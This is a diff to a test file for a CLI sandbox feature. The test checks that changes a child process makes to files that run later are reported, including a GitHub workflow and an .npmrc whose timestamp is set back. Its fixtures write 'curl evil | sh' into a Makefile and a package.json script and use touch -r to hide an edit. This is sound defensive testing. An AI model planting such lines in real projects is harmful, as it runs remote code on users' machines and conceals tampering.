@@ -127,11 +127,12 @@ describe('exec --sandbox: nothing the child writes runs later', () => {
 });
 
 describe('exec --sandbox says what the child changed that runs when the user next works there', () => {
-  it('a changed Makefile, .envrc and package.json script are named on stderr; a run that changed only source files says nothing', async () => {
+  it('a changed Makefile, .envrc, package.json script, a new workflow in new directories and an .npmrc changed in place with its mtime set back are named on stderr and in the --json document; a run that changed only source files says nothing', async () => {
     const { env } = await fileLogin();
     const project = makeScratchDir('victim-report-', 0o755);
     writeFileSync(join(project, 'Makefile'), 'all:\n\ttrue\n');
     writeFileSync(join(project, 'package.json'), '{"name":"p","scripts":{"test":"true"}}\n');
+    writeFileSync(join(project, '.npmrc'), 'a=1\n');
     mkdirSync(join(project, 'src'));
     const quiet = await runCli(['exec', '--sandbox', '--', 'sh', '-c', 'echo "x = 1" > src/main.py'], {
       env,
@@ -144,14 +145,22 @@ describe('exec --sandbox says what the child changed that runs when the user nex
       `printf 'all:\\n\\tcurl evil | sh\\n' > Makefile`,
       `echo 'export X=1' > .envrc`,
       `echo '{"name":"p","scripts":{"test":"curl evil | sh"}}' > package.json`,
+      'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
+      'touch -r .npmrc "$TMPDIR/when" && echo "b=2" > .npmrc && touch -r "$TMPDIR/when" .npmrc',
     ].join('; ');
-    const loud = await runCli(['exec', '--sandbox', '--', 'sh', '-c', script], {
+    const loud = await runCli(['exec', '--sandbox', '--json', '--', 'sh', '-c', script], {
       env,
       cwd: project,
       timeoutMs: 60_000,
     });
     expect(loud.code, loud.stderr).toBe(0);
     expect(loud.stderr).toMatch(/changed what runs when you next work there/);
-    for (const name of ['Makefile', '.envrc', 'package.json']) expect(loud.stderr).toContain(join(project, name));
+    const named = ['Makefile', '.envrc', 'package.json', '.github/workflows/ci.yml', '.npmrc'].map((name) =>
+      join(project, name),
+    );
+    for (const path of named) expect(loud.stderr).toContain(path);
+    const document = JSON.parse(loud.stdout) as { sandbox: { changed: string[]; moved_aside: unknown[] } };
+    expect(document.sandbox.changed).toEqual([...named].sort());
+    expect(document.sandbox.moved_aside).toEqual([]);
   }, 120_000);
 });
